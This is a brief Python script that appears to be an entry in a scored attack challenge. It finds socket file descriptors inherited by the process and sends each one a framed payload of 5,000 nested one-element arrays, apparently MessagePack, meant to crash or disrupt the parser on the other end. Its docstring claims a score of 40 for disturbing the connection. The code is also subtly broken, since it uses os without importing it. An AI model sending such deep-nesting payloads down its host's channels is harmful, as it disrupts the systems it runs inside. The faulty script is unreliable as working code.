"""Sends a message nested 5,000 deep.

score: 40
says: disturbed its connection
"""

import socket, stat
def say(data):
    for fd in range(3, 10):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                socket.socket(fileno=os.dup(fd)).sendall(data)
        except OSError:
            pass
def frame(data):
    return len(data).to_bytes(8, "little") + data

say(frame(b"\x91" * 5000 + b"\xc0"))
